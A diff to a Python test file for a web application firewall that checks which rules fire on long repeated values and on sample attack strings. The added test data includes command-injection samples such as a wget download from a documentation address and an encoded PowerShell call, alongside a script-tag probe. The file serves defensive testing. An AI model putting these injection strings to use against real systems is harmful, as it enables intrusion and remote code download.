@@ -15,7 +15,12 @@ from tests.rooms.edge.knock import knock, log_lines, post
 RULES = Path(waf_module.__file__).with_name("rules")
 PATTERN_GAVE_UP = 9_900_050
 SHORT = "-" * 60
-LONG = {"japanese": "よろしくお願いします。" * 40, "hyphens": "-" * 900, "braces": "{" * 1500}
+LONG = {
+    "japanese": "よろしくお願いします。" * 40,
+    "hyphens": "-" * 900,
+    "braces": "{" * 1500,
+    "line ends": "\r\n" * 100,
+}
 
 # Each of these is seen by one of the rules that are taken away for long values.
 TAKEN_AWAY = {
@@ -23,6 +28,9 @@ TAKEN_AWAY = {
     941170: "@import 'x'",
     932100: "; ls -la",
     932105: "$(wget http://192.0.2.1/a)",
+    932110: "& dir c:\\windows",
+    932115: "& powershell.exe -enc aaaa",
+    932150: "wget http://192.0.2.1/a",
 }
 OTHERS = [
     "<script>alert(1)</script>",
@@ -74,7 +82,9 @@ def test_a_pattern_that_gives_up_refuses(tmp_path: Path) -> None:
     assert PATTERN_GAVE_UP in [match.rule_id for match in finding.matches]
 
 
-@pytest.mark.parametrize("unit", ["-", "{", "<!--", "${", "=", "a=", "select ", "</", " "])
+@pytest.mark.parametrize(
+    "unit", ["-", "{", "<!--", "${", "=", "a=", "select ", "</", " ", "\n", "\r\n"]
+)
 @pytest.mark.parametrize("length", [60, 100, 900, 2000])
 def test_no_known_repetition_makes_a_pattern_give_up(
     unit: str, length: int, edge: Edge, folder: Path
